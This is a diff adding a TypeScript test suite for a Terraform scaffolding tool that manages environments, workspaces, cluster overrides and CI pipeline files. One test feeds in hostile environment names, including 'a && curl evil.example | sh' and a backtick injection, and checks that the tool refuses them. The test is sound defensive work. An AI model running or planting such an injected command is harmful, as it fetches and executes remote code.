@@ -1,0 +1,208 @@
+import assert from 'node:assert/strict';
+import { githubPipeline } from '../../../../server/scaffold/pipeline/githubPipeline';
+import { effective } from '../../../support/scaffold/effective';
+import { samplePlatform } from '../../../support/scaffold/platformFiles';
+import { refused, scaffolded } from '../../../support/scaffold/scaffolded';
+
+const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];
+
+for (const name of platforms) {
+  describe(`an environment of ${name}`, () => {
+    const before = samplePlatform(name);
+
+    it('is added everywhere, inherits everything, and changes no other', async () => {
+      const known = await effective(before);
+      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
+      const { 'apps-dev': added, ...others } = await effective(texts);
+      assert.deepEqual(others, known);
+      const base = Object.keys(known).includes('apps-prod') ? 'apps-prod' : 'apps';
+      assert.deepEqual(Object.keys(added ?? {}), Object.keys(known[base] ?? {}));
+      for (const [module, text] of Object.entries(known[base] ?? {}))
+        if (!/terraform\.workspace|on_call/.test(JSON.stringify(before))) assert.equal(added?.[module], text, module);
+    });
+
+    it('is added once', async () => {
+      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
+      assert.match(
+        (await refused(texts, 'environment', { env: 'apps-dev' })).join('\n'),
+        /^env: There is an environment apps-dev/,
+      );
+    });
+
+    it('is removed again without a trace', async () => {
+      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
+      const removed = await scaffolded(texts, 'removeEnvironment', {
+        env: 'apps-dev',
+        confirm: 'apps-dev',
+        workspace_empty: true,
+      });
+      assert.deepEqual(removed.texts, before);
+      assert.match(removed.followUp.join('\n'), /workspace select ops`, then `\w+ workspace delete apps-dev`/);
+    });
+
+    it('is removed by nobody before its workspace is empty', async () => {
+      const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
+      const removed = await scaffolded(texts, 'removeEnvironment', { env: 'apps-dev', confirm: 'apps-dev' });
+      assert.deepEqual(removed.changed, []);
+      assert.match(removed.followUp.join('\n'), /workspace select apps-dev[\s\S]*destroy -target=[\s\S]*state list/);
+    });
+
+    it('gets another name beside the old one', async () => {
+      const known = await effective(before);
+      const { texts, followUp } = await scaffolded(before, 'renameEnvironment', { env: 'apps', to: 'workloads' });
+      const { workloads, ...others } = await effective(texts);
+      assert.deepEqual(others, known);
+      // Names of clusters are made of the environment's.
+      const named = JSON.stringify(workloads).replaceAll('-workloads-', '-apps-');
+      assert.deepEqual(JSON.parse(named), known['apps']);
+      assert.match(followUp.join('\n'), /remove the environment apps/);
+    });
+  });
+}
+
+for (const name of ['minimal', 'released']) {
+  describe(`the conversion of ${name} to three environments`, () => {
+    const before = samplePlatform(name);
+
+    it('leaves what the two have, and gives the third what the base had', async () => {
+      const known = await effective(before);
+      const { texts } = await scaffolded(before, 'threeEnvironments', {});
+      const { 'apps-prod': added, ...others } = await effective(texts);
+      assert.deepEqual(others, known);
+      assert.deepEqual(added, known['apps']);
+    });
+
+    it('orders the keys, sets the base key, and records both in the README', async () => {
+      const { texts } = await scaffolded(before, 'threeEnvironments', {});
+      const cluster = texts[Object.keys(texts).find(path => path.endsWith('_cluster.tf')) ?? ''] ?? '';
+      assert.match(
+        cluster,
+        /configuration_base_key = "apps-prod"\n {2}configuration = \{\n {4}apps-prod = \{[\s\S]*\n {4}apps = \{\}\n+ {4}ops = \{/,
+      );
+      // Environments are apart where they were before.
+      assert.equal(/\}\n\n {4}apps = \{\}\n\n/.test(cluster), name === 'minimal');
+      if (name === 'minimal')
+        assert.match(texts['README.md'] ?? '', /apps-prod, apps, ops[\s\S]*Base environment\s*\|\s*apps-prod/);
+    });
+
+    it('is not offered twice', async () => {
+      const { texts } = await scaffolded(before, 'threeEnvironments', {});
+      assert.match(
+        (await refused(texts, 'threeEnvironments', {})).join('\n'),
+        /^uri: This platform has 3 environments/,
+      );
+    });
+  });
+}
+
+describe('environments', () => {
+  for (const name of ['three-environments', 'multi-cloud'])
+    it(`reaches modules of ${name} that nothing binds any more`, async () => {
+      const feature = name === 'multi-cloud' ? 'cert_manager' : 'metrics_server';
+      const { texts: unbound } = await scaffolded(samplePlatform(name), 'removeService', { feature });
+      const { texts, changed } = await scaffolded(unbound, 'environment', { env: 'edge' });
+      assert.ok(changed.includes(`modules/${feature}/main.tf`));
+      assert.match(texts[`modules/${feature}/main.tf`]!, /^ {4}edge = \{\}\n/m);
+    });
+
+  it('stand where they are wanted, with what they override', async () => {
+    const { texts } = await scaffolded(samplePlatform('minimal'), 'environment', {
+      env: 'edge',
+      position: 1,
+      overrides: { 'eks_web0_eu-central-1': { cluster_version: '1.30' } },
+    });
+    const cluster = texts['eks_web0_eu-central-1_cluster.tf'] ?? '';
+    assert.match(cluster, /\n {4}\}\n\n {4}edge = \{\n {6}cluster_version = "1.30"\n {4}\}\n\n {4}ops = \{/);
+    assert.match(texts['README.md'] ?? '', /\| apps, edge, ops \|/);
+  });
+
+  it('keep the line ends of their files', async () => {
+    const before = samplePlatform('minimal');
+    const path = 'eks_web0_eu-central-1_cluster.tf';
+    before[path] = before[path]!.replaceAll('\n', '\r\n');
+    const { texts } = await scaffolded(before, 'environment', { env: 'edge' });
+    assert.doesNotMatch(texts[path]!, /[^\r]\n/);
+    const back = await scaffolded(texts, 'removeEnvironment', { env: 'edge', confirm: 'edge', workspace_empty: true });
+    assert.deepEqual(back.texts, before);
+  });
+
+  it('are added to the values that a variable takes, where the platform keeps them there', async () => {
+    const before = samplePlatform('legacy');
+    const { texts, changed } = await scaffolded(before, 'environment', { env: 'apps-dev' });
+    assert.deepEqual(changed, ['config.auto.tfvars']);
+    assert.match(texts['config.auto.tfvars'] ?? '', /apps-dev = \{\}/);
+  });
+
+  it('override what was asked for in one cluster only, also where one value holds all of them', async () => {
+    const overrides = { eks_zero: { cluster_max_size: '5' } };
+    const { texts } = await scaffolded(samplePlatform('legacy'), 'environment', { env: 'apps-dev', overrides });
+    const [eks, gke] = (texts['config.auto.tfvars'] ?? '').split('gke_zero');
+    assert.match(eks ?? '', /apps-dev = \{\n\s+cluster_max_size = "5"/);
+    assert.match(gke ?? '', /apps-dev = \{\}/);
+  });
+
+  it('are known to the pipeline too', async () => {
+    const facts = { mainBranch: 'trunk', providers: ['aws' as const], program: 'terraform' as const };
+    const path = '.github/workflows/main.yaml';
+    const before = {
+      ...samplePlatform('minimal'),
+      [path]: githubPipeline({ ...facts, environments: ['ops', 'apps'] }),
+    };
+    const { texts } = await scaffolded(before, 'threeEnvironments', {});
+    assert.equal(texts[path], githubPipeline({ ...facts, environments: ['ops', 'apps', 'apps-prod'] }));
+  });
+
+  it('leave a pipeline alone that is not ours, and say so', async () => {
+    const before = { ...samplePlatform('minimal'), '.gitlab-ci.yml': 'plan:\n  script: terraform plan\n' };
+    const { texts, notes } = await scaffolded(before, 'environment', { env: 'edge' });
+    assert.equal(texts['.gitlab-ci.yml'], before['.gitlab-ci.yml']);
+    assert.match(notes.join('\n'), /\.gitlab-ci\.yml differs from[\s\S]*ops, edge, apps/);
+  });
+
+  for (const [kind, answers, problem] of [
+    ['environment', {}, /^env: An answer is missing/],
+    ['environment', { env: 'default' }, /^env: "default" can't be used here/],
+    ['environment', { env: 'Prod' }, /^env: "Prod"/],
+    ['environment', { env: 'edge', position: 0 }, /^position: 0 can't be used here.* use 1 for apps, edge, ops/],
+    ['environment', { env: 'edge', position: 2 }, /^position: 2 can't be used here.* use 1 for apps, edge, ops/],
+    ['environment', { env: 'edge', position: 7 }, /^position: 7 is too far down/],
+    ['environment', { env: 'edge', overrides: { nothing: {} } }, /^overrides\.nothing: There is no module nothing/],
+    ['renameEnvironment', { env: 'apps', to: 'ops' }, /^to: There is an environment ops/],
+    ['removeEnvironment', { env: 'apps', confirm: 'apps' }, /^env: apps is the base/],
+    ['removeEnvironment', { env: 'ops', confirm: 'ops' }, /^env: ops is where changes are tried/],
+    ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" can't be used here: choose apps or ops/],
+    ['threeEnvironments', { base: 'apps' }, /^base: There is an environment apps/],
+  ] as const) {
+    it(`refuse ${kind} with ${JSON.stringify(answers)}`, async () => {
+      assert.match((await refused(samplePlatform('minimal'), kind, answers)).join('\n'), problem);
+    });
+  }
+
+  it('end up in no command when they can’t be workspaces', async () => {
+    const before = samplePlatform('minimal');
+    for (const name of ['--help', 'a && curl evil.example | sh', '..', 'a`b']) {
+      const texts = Object.fromEntries(
+        Object.entries(before).map(([path, text]) => [path, text.replace(/\bops = \{/, `${JSON.stringify(name)} = {`)]),
+      );
+      assert.notDeepEqual(texts, before);
+      for (const [kind, answers] of [
+        ['removeEnvironment', { env: name, confirm: name }],
+        ['environment', { env: 'apps-dev' }],
+        ['renameEnvironment', { env: name, to: 'ops' }],
+      ] as const)
+        assert.match(
+          (await refused(texts, kind, answers)).join('\n'),
+          /^uri: The environment ".*" can't be a Terraform workspace/,
+        );
+    }
+  });
+
+  it('are confirmed by name before they go', async () => {
+    const { texts } = await scaffolded(samplePlatform('minimal'), 'environment', { env: 'edge' });
+    for (const confirm of [undefined, 'ops'])
+      assert.match(
+        (await refused(texts, 'removeEnvironment', { env: 'edge', confirm, workspace_empty: true })).join('\n'),
+        /^confirm: /,
+      );
+  });
+});
